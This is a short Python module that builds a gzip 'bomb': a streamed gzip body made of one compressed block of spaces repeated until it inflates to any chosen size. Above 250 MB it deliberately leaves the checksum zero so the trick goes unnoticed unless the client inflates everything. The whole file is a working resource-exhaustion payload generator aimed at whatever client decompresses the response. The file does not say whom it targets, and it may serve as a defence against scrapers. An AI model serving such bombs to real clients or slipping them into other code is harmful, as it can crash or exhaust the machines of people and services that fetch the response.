"""A gzip body that inflates to any size, made of one compressed block said again and again."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator

BLOCK = b" " * 1_000_000
CHECKED_BYTES = 250_000_000
GZIP_HEAD = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"


def bomb(start: bytes, size: int) -> Iterator[bytes]:
    """Pieces of gzip that inflate to `start` and then blanks, at least `size` bytes of them.

    From 250 MB on the checksum at the end is left zero (it would hold up the event loop): only
    who inflates it all would notice.
    """
    blocks = -(-size // len(BLOCK))
    first, block = _flushed(start), _flushed(BLOCK)
    checksum, total = 0, len(start) + blocks * len(BLOCK)
    if total < CHECKED_BYTES:
        checksum = zlib.crc32(start)
        for _ in range(blocks):
            checksum = zlib.crc32(BLOCK, checksum)
    yield GZIP_HEAD + first
    for _ in range(blocks):
        yield block
    yield b"\x03\x00" + struct.pack("<II", checksum, total & 0xFFFFFFFF)


def _flushed(data: bytes) -> bytes:
    """Raw deflate that needs no earlier data, ending on a byte."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    return deflate.compress(data) + deflate.flush(zlib.Z_FULL_FLUSH)
